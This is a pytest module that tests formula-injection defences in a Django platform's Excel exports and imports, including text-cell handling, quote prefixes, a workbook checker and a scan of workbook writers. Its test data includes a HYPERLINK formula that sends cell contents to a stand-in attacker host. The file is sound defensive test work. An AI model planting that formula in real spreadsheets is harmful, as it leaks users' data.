"""Formula injection in generated workbooks. Text a user typed is written as
text in every workbook the platform makes — one helper for every writer (kernel.exports.text_cell)
and one serialisation (kernel.exports.workbook_save), which tests/conftest.py wraps so that every
workbook any test makes is checked for formula cells and formula-like text."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from django.conf import settings
from openpyxl import Workbook, load_workbook

from imports.models import ImportBatch
from imports.services import import_upload
from imports.templates import task_report_template
from kernel import exports
from reports.services import task_part_open, task_part_save
from tasks.models import Task
from tests.imports.test_kinds import co_and_lead_tasks, in_window, messages, q  # noqa: F401  (fixture)
from tests.imports_helpers import upload

pytestmark = pytest.mark.django_db

TYPED = {"measures": '=HYPERLINK("http://evil.example/?"&A1,"点击")', "progress": "+1 人",
         "problems": "-2 个问题", "next_steps": "#REF!"}


def test_a_task_reports_text_is_written_as_text_and_the_unedited_template_imports(personas, in_window):  # noqa: F811
    user = personas["co_officer"]
    co, _lead = co_and_lead_tasks(user)
    task = Task.objects.get(plan__code="ankang-2022", number=co[0])
    part = task_part_open(task=task, department=user.department, period=q("2024Q3"), user=user)
    task_part_save(part=part, fields={**TYPED, "self_status": "on_track"}, version=part.version, user=user)

    data = task_report_template(department=user.department, period=q("2024Q3"), user=user)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == co[0])
    for c, field in zip(row[5:9], ("measures", "progress", "problems", "next_steps"), strict=True):
        assert (c.value, c.data_type) == (TYPED[field], "s"), field  # exactly the text, as text
    assert row[5].quotePrefix and row[6].quotePrefix and row[7].quotePrefix  # kept text when edited in Excel
    assert exports.workbook_problems(data) == []

    batch = import_upload(user=user, kind=ImportBatch.Kind.TASK_REPORTS, upload=upload(data), period=q("2024Q3"))
    # read back exactly as written: the part is unchanged (the other rows are the department's
    # parts not written yet, which an unedited template opens empty)
    assert batch.state == ImportBatch.State.READY and not batch.errors, messages(batch)
    assert batch.summary["unchanged"] == 1 and co[0] not in [c["task"] for c in batch.preview["changes"]]


def test_text_cells_are_text_whatever_they_begin_with():
    wb = Workbook()
    ws = wb.active
    ws.append(exports.xlsx_row(ws, ["=1+1", "@SUM(A1)", "#N/A", "\tx", "汉滨区", 3, None]))
    data = exports.workbook_save(wb)
    cells = load_workbook(io.BytesIO(data)).active[1]
    assert [c.data_type for c in cells[:6]] == ["s", "s", "s", "s", "s", "n"]
    assert [c.value for c in cells[:5]] == ["=1+1", "@SUM(A1)", "#N/A", "\tx", "汉滨区"]
    assert [bool(c.quotePrefix) for c in cells[:5]] == [True, True, False, True, False]


def test_the_check_finds_formulas_error_values_and_unmarked_formula_like_text():
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "=1+1"  # openpyxl's own way: a live formula
    ws["B1"] = "#REF!"  # an error value
    ws["C1"] = "ok"
    ws["D1"].value, ws["D1"].data_type = "+1", "s"  # text, but Excel makes it a formula when edited
    ws["E1"] = "'=1+1"  # the exports' apostrophe: text
    buf = io.BytesIO()
    wb.save(buf)
    problems = exports.workbook_problems(buf.getvalue())
    assert [p.split(":")[0] for p in problems] == ["Sheet!A1", "Sheet!B1", "Sheet!D1"]


def test_the_suite_checks_every_workbook_the_platform_saves():
    """The conftest wrapper is in place: a bad workbook saved the platform's way fails the test."""
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    with pytest.raises(AssertionError, match="formula"):
        exports.workbook_save(wb)


WORKBOOK_MADE = re.compile(r"from openpyxl import[^\n]*\bWorkbook\b|openpyxl\.(Workbook|workbook)\b")
SAVED_ELSEWHERE = re.compile(r"\.save\(\s*(buf|out|io\.|BytesIO|[\"']|path|f\b)")


def test_every_workbook_writer_goes_through_the_kernel():
    """A new module making a workbook must write its rows with text_cell/xlsx_row and save it with
    workbook_save, or the suite's check would not see it."""
    root = Path(settings.BASE_DIR)
    writers, offenders = [], []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root).as_posix()
        if rel.startswith((".venv/", "var/", "tests/", "benchmarks/")) or rel == "kernel/exports.py":
            continue
        text = path.read_text(encoding="utf-8")
        if not WORKBOOK_MADE.search(text):
            continue
        writers.append(rel)
        if "workbook_save" not in text or SAVED_ELSEWHERE.search(text):
            offenders.append(f"{rel}: saves a workbook without kernel.exports.workbook_save")
        for number, line in enumerate(text.splitlines(), start=1):
            if re.search(r"\.append\(\s*\[", line) and "xlsx_row" not in line:
                offenders.append(f"{rel}:{number}: a row appended without kernel.exports.xlsx_row")
    assert "imports/templates.py" in writers
    assert offenders == [], offenders
